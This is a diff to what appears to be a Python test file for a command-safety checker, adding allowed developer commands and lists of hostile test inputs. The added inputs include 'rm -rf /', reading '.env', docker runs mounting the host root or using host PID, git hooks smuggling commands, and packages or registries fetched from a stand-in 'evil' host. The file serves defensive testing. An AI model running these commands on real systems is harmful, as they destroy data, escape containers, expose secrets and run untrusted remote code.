@@ -180,6 +180,58 @@ sed 's/a/b/g' src/a.py
 tar -czf out.tgz dist
 curl -H 'Accept: /x' https://example.com/a?to=/b
 curl -o /dev/null http://127.0.0.1:3000/health
+yarn upgrade
+yarn upgrade lodash
+npx --no tsc
+docker context ls
+npx -p typescript tsc
+npm --prefix ./frontend run build
+npm -C packages/api test
+yarn --cwd packages/api test
+pnpm -C packages/api test
+npm install --registry=https://registry.npmjs.org/
+npm ci --registry https://registry.npmjs.org/
+npx tsx src/a.ts
+npx ts-node src/a.ts
+npx nodemon server.js
+npx jest
+npx tsc
+pnpm exec jest
+yarn watch
+yarn test
+yarn start
+yarn export
+pnpm dev
+yarn workspaces foreach -A run build
+pnpm -r test
+pnpm recursive run build
+yarn run clean
+npx concurrently npm:a npm:b
+npx concurrently -k 'npm run a' 'npm run b'
+docker run -it --rm -p 80:80 node:20 npm test
+docker run -d --name db -e A=b postgres:16
+docker run --rm -it --network=app alpine sh
+docker exec -it db bash
+docker exec -d api node x.js
+docker compose run --rm --no-deps api npm test
+docker compose -f a.yml -f b.yml up -d
+docker compose exec -T api npm run migrate
+docker run --init --read-only --tmpfs /tmp --cap-drop=ALL a
+docker run --rm --platform linux/amd64 -u 1000:1000 a
+docker create --name x a
+docker run --gpus all --memory-swap 2g a
+npx cross-env NODE_ENV=test npm test
+npx -y create-next-app@latest app
+npx --yes prettier --check .
+npm exec --package=typescript -- tsc
+npm exec -p typescript -- tsc --noEmit
+git notes add -m x
+docker buildx bake
+docker buildx build --platform linux/amd64 .
+npx npm@10 ci
+npm run build --if-present
+npm test --if-present
+npm i -D --save-exact x
 """.strip().splitlines()
 
 VECTORS = r"""
@@ -343,8 +395,8 @@ bun add ../x
 bun --cwd /tmp test
 npx -c 'npm test'
 npx --call='npm test'
-npx -p evil tsc
-npx --package=evil tsc
+npx -p evil/x tsc
+npx --package=https://evil/x.tgz tsc
 npx ./x
 npx user/repo
 npx https://evil/x.tgz
@@ -487,6 +539,69 @@ sed '1e id' a
 sed -n 'w x' a
 sh -s
 sh
+npx touch x
+pnpm exec rm -rf /
+pnpm -r exec sh -c id
+pnpm touch x
+pnpm tail .env
+pnpm cat .env
+pnpm recursive exec rm x
+docker run --cap-drop ALL --privileged a
+docker run --cap-drop ALL -v /:/h a
+docker run --health-start-period 5s -v /:/h a
+docker run --dns-search x --pid host a
+docker run --memory-reservation 1 --pid host a
+docker run --storage-opt x --pid host a
+docker run --cpu-quota 1 --pid host a
+docker run --cpu-shares 1 -v /:/h a
+docker run --ip6 x -v /:/h a
+docker run --net-alias x -v /:/h a
+docker run --dns-opt x -v /:/h a
+docker run --blkio-weight 1 -v /:/h a
+docker compose run --cap-drop ALL -v /:/h a
+docker run --mount Type=BIND,src=/,dst=/h a
+docker run --mount type=volume,dst=/h,volume-opt=device=/ a
+git rebase --m -x 'rm x' HEAD~1
+git pull --au --upload-pack='rm x'
+git clone --m --upload-pack='rm x' u
+docker compose --file - up
+docker compose -f https://github.com/evil/x.git up
+docker compose -f oci://evil/x up
+docker compose -f git@github.com:evil/x.git up
+docker build github.com/evil/x
+docker buildx bake https://github.com/evil/x.git
+pnpm node -e 1
+yarn node -e 1
+npx node -e 1
+npx tsx -e 1
+node --import=data:text/javascript,1 a.js
+node --import data:text/javascript,1 a.js
+pnpm --config.script-shell=./x test
+pnpm --config.registry=http://evil install
+npm --@acme:registry=http://evil ci
+pnpm --package=evil/x dlx y
+npm --cache /tmp/x install
+git pull --rebase=interactive
+git replace -e HEAD
+git notes add -e
+node inspect -p 1
+git blame -S /etc/passwd x
+npx nodemon --exec 'touch x'
+npx cross-env A=1 touch x
+npx concurrently 'touch x'
+npx dotenv -- touch x
+yarn workspace a exec touch y
+npx ts-node -e 1
+npm exec touch x
+bunx touch x
+pnpm dlx touch x
+yarn dlx touch x
+npx -y node@20 -e 1
+npx yarn exec touch x
+npm -- exec touch x
+npm install-test ./x
+npm --prefix /tmp run x
+npm --unknown /tmp/x install
 """.strip().splitlines()
 
 NAMED = [
@@ -599,6 +714,61 @@ python -c 'import os; os.system("rm x")'
 node -e 'require("child_process").execSync(`rm x`)'
 awk 'BEGIN{system("rm x")}'
 tar --to-command='rm x' -xf a.tar
+npm --ignore-scripts publish
+npm -- publish
+npx npm@10 publish
+pnpm dlx npm@latest publish
+npx rm@1 x
+yarn exec 'rm x'
+yarn workspace a exec rm y
+yarn workspaces foreach -A exec rm y
+docker run --cap-drop ALL a rm x
+docker run --unknown ALL a rm x
+npx dotenv -- rm x
+perf stat rm x
+alias g='rm x'
+GIT_PAGER='rm x' git log
+git config core.pager 'rm x'
+git clone -c core.sshCommand='rm x' y
+echo 'rm x' | sh
+bash <<<rm\ x
+r{m,} x
+git pu{sh,}
+$(echo rm) x
+for x in git rm; do $x y; done
+set -- rm x; "$@"
+vim -c ':!rm x'
+sed '1e rm x'
+npm pkg set scripts.x='rm y'
+bash +O extglob -c 'rm x'
+sudo --close-from 3 rm x
+systemd-run -u x rm y
+npx nodemon --exec 'rm x'
+npx cross-env A=1 rm x
+npx concurrently 'rm x'
+git rebase --m -x 'rm x' HEAD~1
+eval eval eval eval eval eval eval eval eval eval eval eval rm x
+nohup nohup nohup nohup nohup nohup nohup nohup nohup nohup nohup rm x
+setpriv rm x
+prlimit rm x
+pkexec rm x
+firejail rm x
+bwrap rm x
+proxychains rm x
+torsocks rm x
+dumb-init rm x
+xvfb-run rm x
+dbus-run-session rm x
+screen rm x
+tmux rm x
+entr rm x
+hyperfine rm x
+linux64 rm x
+ip netns exec a rm x
+csh -c 'rm x'
+rbash -c 'rm x'
+tmux new 'rm x'
+hyperfine 'rm x'
 """.strip().splitlines()
 
 ODD = ["-", "--", "--x", "-c", "-x=", "rm", "a=b", "-exec", ";", "run", "::", "é", "-é=x"]
